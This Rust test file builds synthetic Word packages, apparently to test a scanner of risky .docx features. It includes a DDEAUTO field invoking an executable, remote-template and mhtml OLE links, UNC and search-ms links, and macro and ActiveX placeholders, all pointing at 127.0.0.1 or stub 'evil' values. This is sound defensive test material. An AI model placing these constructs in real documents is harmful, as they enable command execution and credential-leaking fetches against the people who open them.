//! The documents of `cases/docx.md`.

use super::{W, rels, typed};

const DOCUMENT: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const TEMPLATE: &str = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml";
const PNG: &[u8] = b"\x89PNG";

#[test]
fn the_cases_of_word_documents_hold() {
    crate::cases::run(include_str!("../../../cases/docx.md"), &make);
}

fn run(content: &str) -> String {
    format!("<w:r>{content}</w:r>")
}

fn fld(kind: &str) -> String {
    run(&format!("<w:fldChar w:fldCharType=\"{kind}\"/>"))
}

fn instr(text: &str) -> String {
    run(&format!("<w:instrText xml:space=\"preserve\">{text}</w:instrText>"))
}

/// A field whose instruction is cut into pieces of three characters.
fn field(instruction: &str, result: &str) -> String {
    let characters: Vec<char> = instruction.chars().collect();
    let pieces: String = characters.chunks(3).map(|piece| instr(&piece.iter().collect::<String>())).collect();
    let result = run(&format!("<w:t>{result}</w:t>"));
    format!("<w:p>{}{pieces}{}{result}{}</w:p>", fld("begin"), fld("separate"), fld("end"))
}

fn form(data: &str, instruction: &str) -> String {
    let begin = run(&format!(
        "<w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name w:val=\"f\"/><w:entryMacro w:val=\"Evil\"/>{data}</w:ffData></w:fldChar>"
    ));
    format!("<w:p>{begin}{}{}{}</w:p>", instr(instruction), fld("separate"), fld("end"))
}

fn word(media: &str, body: &str, relations: &[(&str, &str, &str)], parts: &[(&str, &str)]) -> Vec<u8> {
    let document = format!(
        "<w:document {W} xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"><w:body>\
         <w:p><w:r><w:t>お知らせ</w:t></w:r></w:p>{body}</w:body></w:document>"
    );
    let rels = rels(relations);
    let mut all =
        vec![("word/document.xml", document.as_str()), ("word/_rels/document.xml.rels", rels.as_str())];
    all.extend_from_slice(parts);
    typed(media, "word/document.xml", &all)
}

fn plain(body: &str) -> Vec<u8> {
    word(DOCUMENT, body, &[], &[])
}

fn with_settings(settings: &str, relations: &[(&str, &str, &str)]) -> Vec<u8> {
    let settings = format!("<w:settings {W}>{settings}<w:defaultTabStop w:val=\"840\"/></w:settings>");
    let rels = rels(relations);
    let parts = [("word/settings.xml", settings.as_str()), ("word/_rels/settings.xml.rels", rels.as_str())];
    word(DOCUMENT, "", &[("rId1", "settings", "settings.xml")], &parts)
}

fn make(name: &str) -> Vec<u8> {
    const MS: &str = "http://schemas.microsoft.com/office/2006/relationships/";
    let png = String::from_utf8_lossy(PNG);
    match name {
        "macros" => word(
            TEMPLATE,
            "",
            &[
                ("rId1", &format!("{MS}vbaProject"), "vbaProject.bin"),
                ("rId2", &format!("{MS}keyMapCustomizations"), "customizations.xml"),
            ],
            &[
                ("word/vbaProject.bin", "AutoOpen"),
                (
                    "word/_rels/vbaProject.bin.rels",
                    &rels(&[("rId1", &format!("{MS}wordVbaData"), "vbaData.xml")]),
                ),
                ("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"x\">AutoOpen</wne:vbaSuppData>"),
                ("word/customizations.xml", "<x>AutoOpen</x>"),
                ("word/attachedToolbars.bin", "AutoOpen"),
            ],
        ),
        "hidden" => plain(
            "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>隠し文字</w:t></w:r>\
             <w:del w:id=\"1\" w:author=\"a\"><w:r><w:delText>前の案</w:delText></w:r></w:del></w:p>",
        ),
        "remote_template" => with_settings(
            "<w:attachedTemplate r:id=\"rId1\"/>",
            &[("rId1", "attachedTemplate", "external:http://127.0.0.1/evil.dotm")],
        ),
        "mail_merge" => with_settings(
            "<w:mailMerge><w:connectString w:val=\"Provider=evil\"/><w:query w:val=\"SELECT evil\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge>",
            &[("rId1", "mailMergeSource", "external:file:///c:/evil.xlsx")],
        ),
        "external_object" => word(
            DOCUMENT,
            "<w:p><w:r><w:object><v:shape id=\"s\" style=\"width:9pt\"/><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"rId1\"/></w:object></w:r></w:p>",
            &[(
                "rId1",
                "oleObject",
                "external:mhtml:http://127.0.0.1/evil.html!x-usc:http://127.0.0.1/evil.html",
            )],
            &[],
        ),
        "links" => word(
            DOCUMENT,
            "<w:p><w:hyperlink r:id=\"rId1\"><w:r><w:t>検索</w:t></w:r></w:hyperlink><w:hyperlink r:id=\"rId2\"><w:r><w:t>共有</w:t></w:r></w:hyperlink>\
             <w:hyperlink r:id=\"rId3\"><w:r><w:t>市の頁</w:t></w:r></w:hyperlink></w:p>",
            &[
                ("rId1", "hyperlink", "external:search-ms:query=evil"),
                ("rId2", "hyperlink", "external:\\\\127.0.0.1\\evil"),
                ("rId3", "hyperlink", "external:https://www.example.lg.jp/"),
            ],
            &[],
        ),
        "external_picture" => word(
            DOCUMENT,
            "<w:p><w:r><w:pict><v:shape id=\"s\" style=\"width:9pt\"><v:imagedata r:id=\"rId1\" o:href=\"http://127.0.0.1/evil.png\"/></v:shape></w:pict></w:r></w:p>",
            &[("rId1", "image", "external:http://127.0.0.1/evil.png")],
            &[],
        ),
        "chunk" => word(
            DOCUMENT,
            "<w:altChunk r:id=\"rId1\"/><w:p><w:subDoc r:id=\"rId2\"/></w:p>",
            &[("rId1", "aFChunk", "evil.html"), ("rId2", "subDocument", "external:evil.docx")],
            &[("word/evil.html", "<script>evil</script>")],
        ),
        "control" => word(
            DOCUMENT,
            "<w:p><w:r><w:object><v:shape id=\"s\" style=\"width:9pt\"/><w:control r:id=\"rId1\" w:name=\"evil\" w:shapeid=\"s\"/></w:object></w:r></w:p>",
            &[("rId1", "control", "activeX/activeX1.xml")],
            &[
                ("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"x\" ax:classid=\"evil\"/>"),
                ("word/activeX/activeX1.bin", "evil"),
            ],
        ),
        "dde" => plain(&field("DDEAUTO c:\\\\evil.exe \"/c calc\"", "十二")),
        "fetching_fields" => plain(
            &[
                field("INCLUDETEXT \"http://127.0.0.1/evil\"", "甲"),
                field("INCLUDEPICTURE \"\\\\\\\\127.0.0.1\\\\evil.png\" \\d", "乙"),
                field("LINK Excel.Sheet.8 \"c:\\\\evil.xls\"", "丙"),
                field("IMPORT \"evil\"", "丁"),
                field("DATABASE \\d \"evil\"", "戊"),
            ]
            .concat(),
        ),
        "macro_button" => plain(&format!(
            "<w:p>{}{}{}</w:p>",
            fld("begin"),
            instr("MACROBUTTON EvilMacro 氏名を入力"),
            fld("end")
        )),
        "enclosed" => plain(&format!(
            "<w:p>{}{}{}{}{}</w:p>",
            fld("begin"),
            instr(" eq \\o\\ac("),
            "<w:r><w:rPr><w:position w:val=\"-4\"/><w:sz w:val=\"31\"/></w:rPr><w:instrText>○</w:instrText></w:r>",
            instr(",印)"),
            fld("end")
        )),
        "check_box" => plain(&form(
            "<w:checkBox><w:sizeAuto/><w:default w:val=\"0\"/><w:checked/></w:checkBox>",
            " FORMCHECKBOX ",
        )),
        "drop_down" => plain(&form(
            "<w:ddList><w:result w:val=\"1\"/><w:listEntry w:val=\"出席\"/><w:listEntry w:val=\"欠席\"/></w:ddList>",
            " FORMDROPDOWN ",
        )),
        "binding" => word(
            DOCUMENT,
            "<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/evil\" w:storeItemID=\"{1}\"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>値</w:t></w:r></w:p></w:sdtContent></w:sdt>",
            &[("rId1", "customXml", "../customXml/item1.xml")],
            &[("customXml/item1.xml", "<evil/>")],
        ),
        "web_frames" => word(
            DOCUMENT,
            "",
            &[("rId1", "webSettings", "webSettings.xml")],
            &[
                (
                    "word/webSettings.xml",
                    &format!(
                        "<w:webSettings {W}><w:frameset><w:frame><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>"
                    ),
                ),
                (
                    "word/_rels/webSettings.xml.rels",
                    &rels(&[("rId1", "frame", "external:http://127.0.0.1/evil.html")]),
                ),
            ],
        ),
        "fonts" => word(
            DOCUMENT,
            "",
            &[("rId1", "fontTable", "fontTable.xml")],
            &[
                (
                    "word/fontTable.xml",
                    &format!(
                        "<w:fonts {W}><w:font w:name=\"外字\"><w:embedRegular r:id=\"rId1\" w:fontKey=\"{{0}}\"/></w:font></w:fonts>"
                    ),
                ),
                ("word/_rels/fontTable.xml.rels", &rels(&[("rId1", "font", "fonts/font1.odttf")])),
                ("word/fonts/font1.odttf", "evil"),
            ],
        ),
        "entities" => {
            let text = format!(
                "<!DOCTYPE w:document [<!ENTITY a \"b\">]><w:document {W}><w:body><w:p/></w:body></w:document>"
            );
            typed(DOCUMENT, "word/document.xml", &[("word/document.xml", &text)])
        }
        "two_contents" => plain(
            "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"zz\" xmlns:zz=\"urn:evil\"><w:t>evil</w:t></mc:Choice>\
             <mc:Fallback><w:t>表示</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>",
        ),
        "unread_parts" => word(
            DOCUMENT,
            "",
            &[("rId1", "image", "media/image1.png")],
            &[
                ("word/media/image1.png", &png),
                ("word/media/stray.png", "evil"),
                ("customUI/customUI14.xml", "<evil/>"),
            ],
        ),
        other => panic!("no builder {other}"),
    }
}
